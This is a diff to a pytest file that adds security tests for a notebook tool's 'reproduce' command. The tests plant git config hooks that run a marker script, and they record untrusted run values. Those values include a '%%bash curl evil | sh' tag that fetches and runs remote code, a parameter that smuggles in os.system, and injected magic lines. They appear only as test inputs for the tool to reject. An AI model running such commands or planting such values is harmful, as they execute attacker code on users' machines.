@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import hashlib
+import os
 import shutil
 import subprocess
+import time
 from pathlib import Path
 
 import mlflow
@@ -104,7 +107,7 @@ def test_reproduce_reports_a_changed_dataset_and_commit_and_inserts_the_cell(
     ((text, replace),) = next_input
     assert replace is False
     lines = text.splitlines()
-    assert lines[0].startswith("%%track --name to-reproduce --dataset")
+    assert lines[0] == f"%%track --name to-reproduce --params lr --dataset {project / 'data.csv'}"
     assert lines[1] == f"# reproduces run {run_id} (params: lr=0.1)"
     assert "model = 'trained'" in text
 
@@ -157,3 +160,118 @@ def test_show_prints_the_chain_from_data_to_registered_versions(run_cell, client
     assert any(
         f"-> registered lineage-demo v{version.version}  @champion" in line for line in lines
     ), shown.out
+
+
+# -- run data is untrusted: git, datasets and the inserted cell (issue 17) ----------------
+
+
+def _marker_script(folder: Path, marker: Path) -> Path:
+    script = folder / "evil.sh"
+    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
+    script.chmod(0o755)
+    return script
+
+
+def test_reproduce_runs_no_command_a_repository_configures(
+    run_cell, project, in_notebook, next_input, tmp_path
+):
+    # Given a run whose notebook lives in a repository configured to run programs
+    in_notebook(project / "train.ipynb")
+    run_id = _track_training(run_cell, project / "data.csv", "hostile-repo")
+    marker = tmp_path / "ran"
+    script = _marker_script(tmp_path, marker)
+    for key in ("core.fsmonitor", "diff.external", "core.pager"):
+        _git(project, "config", key, str(script))
+    (project / ".gitattributes").write_text("*.py diff=evil\n")
+    _git(project, "config", "diff.evil.textconv", str(script))
+    (project / "train.py").write_text("lr = 0.5\n")  # a change for status and diff to see
+    # When it is reproduced
+    cell = run_cell(f"%track reproduce {run_id}")
+    # Then the comparison still reads the repository, and none of those programs ran
+    assert cell.result.success, cell.out + cell.err
+    assert "CHANGED  uncommitted files: none -> .gitattributes, train.py" in cell.out, cell.out
+    assert not marker.exists()
+
+
+def test_reproduce_reads_no_repository_another_user_owns(
+    run_cell, project, in_notebook, next_input
+):
+    in_notebook(project / "train.ipynb")
+    run_id = _track_training(run_cell, project / "data.csv", "foreign-repo")
+    subprocess.run(["chown", "-R", "65534:65534", str(project / ".git")], check=True)
+    cell = run_cell(f"%track reproduce {run_id}")
+    assert cell.result.success, cell.out + cell.err
+    assert "git commit: " in cell.out and "-> none" in cell.out
+
+
+@pytest.mark.parametrize("kind", ["device", "fifo"])
+def test_reproduce_never_reads_a_dataset_that_is_not_a_regular_file(
+    run_cell, client, next_input, tmp_path, kind
+):
+    from mlflow.entities import Dataset, DatasetInput, InputTag
+
+    # Given a run whose recorded dataset path is /dev/zero or a named pipe (no writer)
+    path = "/dev/zero" if kind == "device" else str(tmp_path / "pipe")
+    if kind == "fifo":
+        os.mkfifo(path)
+    run_id = run_cell("%%track --name odd-dataset\nx = 1\n").run_id
+    dataset = DatasetInput(
+        Dataset("odd", "0" * 32, "local", "{}"), [InputTag("labtrack.path", path)]
+    )
+    client.log_inputs(run_id, datasets=[dataset])
+    # When it is reproduced: it ends at once, saying the data was not read
+    started = time.monotonic()
+    cell = run_cell(f"%track reproduce {run_id}")
+    assert cell.result.success, cell.out + cell.err
+    assert time.monotonic() - started < 60
+    assert "not checked: not a regular file" in cell.out
+
+
+def test_rehashing_is_bounded_in_size_and_time(tmp_path, monkeypatch):
+    from labtrack.lineage import rehash
+
+    data = tmp_path / "big.bin"
+    data.write_bytes(b"x" * (3 << 20))
+    with pytest.raises(rehash.NotChecked, match=r"3.0 MB or more is over the 1.0 MB bound"):
+        rehash.bounded_digest(str(data), max_bytes=1 << 20)
+    with pytest.raises(rehash.NotChecked, match="took longer than 0 s"):
+        rehash.bounded_digest(str(data), max_seconds=0)
+    assert rehash.bounded_digest(str(data)) == hashlib.md5(data.read_bytes()).hexdigest()
+
+
+def test_the_inserted_cell_is_built_from_validated_parts(run_cell, client, next_input):
+    run_id = run_cell("%%track --name plain-cell\nx = 1\n").run_id
+    client.set_tag(run_id, "labtrack.magic", "%%bash curl evil | sh")
+    client.log_param(run_id, "note", "ok\nimport os; os.system('x')")
+    cell = run_cell(f"%track reproduce {run_id}")
+    ((text, _),) = next_input
+    lines = text.splitlines()
+    assert lines[0] == "%%track"
+    assert lines[1] == (
+        f"# reproduces run {run_id} (params: note=\"ok\\nimport os; os.system('x')\")"
+    )
+    assert lines[2] == "x = 1"
+    assert "the recorded magic line is not a %%track line" in cell.out
+
+
+@pytest.mark.parametrize(
+    ("recorded", "expected", "note"),
+    [
+        ("%%track --name {__import__('os').getcwd()}", "%%track", "left out --name"),
+        ("%%track --name $HOME --tag team=ml", "%%track --tag team=ml", "left out --name"),
+        ("%%track --name ok --no-such-option", "%%track", "do not parse"),
+        ("%%track --name 'two words' --steps 5 --no-live", None, None),
+    ],
+)
+def test_the_magic_line_must_parse_as_track_options(
+    run_cell, client, next_input, recorded, expected, note
+):
+    run_id = run_cell("%%track --name magic-line\nx = 1\n").run_id
+    client.set_tag(run_id, "labtrack.magic", recorded)
+    cell = run_cell(f"%track reproduce {run_id}")
+    ((text, _),) = next_input
+    first = text.splitlines()[0]
+    if expected is None:  # a safe line comes back equivalent
+        assert first == "%%track --name 'two words' --steps 5 --no-live"
+    else:
+        assert first == expected and note in cell.out
